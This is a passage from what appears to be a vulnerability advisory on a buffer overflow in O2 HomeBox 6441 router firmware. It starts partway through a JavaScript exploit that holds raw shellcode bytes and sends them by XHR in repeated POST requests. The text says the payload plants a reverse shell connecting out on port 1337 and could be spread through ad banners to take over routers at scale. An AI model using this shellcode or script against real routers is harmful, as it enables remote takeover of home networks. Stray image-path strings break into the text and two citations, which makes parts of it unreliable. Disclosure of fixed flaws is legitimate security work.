xff\xff\x22\x31\xff\xff\x16\x30\xff\xfa\x28\x06\xff\xff\x3c\x0f\x2f\x2f\x35\xef\x62\x69\xaf\xaf\xff\xec\x3c\x0e\x6e\x2f\x35\xce\x73\x68\xaf\xae\xff\xf0\xaf\xa0\xff\xf4\x27\xa4\xff\xec\xaf\xa4\xff\xf8\xaf\xa0\xff\xfc\x27\xa5\xff\xf8\x24\x02\x0f\xab\x01\x01\x01\x0c\r\n";
var aBody = new Uint8Array(body.length);
for (var i = 0; i < aBody.length; i++)
aBody[i] = body.charCodeAt(i);
xhr.send(new Blob([aBody]));
for (i = 0; i < 100; i++) {

The used shellcode injects a reverse shell whichconnects to on port 1337 into memory and gets executed successfully. This exact JavaScript code works for Firefox on Kali Linux. It might be necessary to slightly edit the script to support different operating systems or browsers (as the shellcode might reside in slightly different locations due to headers that the browser sends for the 100 POST requests).
An attacker that is able to lure his victims to a website, or embed this JavaScript into advertisement banners would be able to take over these routers on a massive scale over the Internet.

The vulnerability was reported to the distributor and is fixed in the current version of the firmware. It was present in version 1.01.30 (and maybe older versions) of the O2 HomeBox 6441, manufactured by Arcadyan/Astoria. The vulnerability was not encountered in other products of Arcadyan/Astoria in the German market (Speedport, Easybox, etc.), but NSIDE cannot guarantee that the code was not used for other devices in general.


[1] ONE, Aleph. Smashing the stack for fun and profit. Phrack magazine, 1996, 7. Jg., Nr. 49, S. 14-16.
[2] SHACHAM, Hovav, et al. The geometry of innocent flesh on the bone: return-into-libc without function calls (on the x86). In: ACM conference on Computer andcommunications security. 2007. S. 552-561.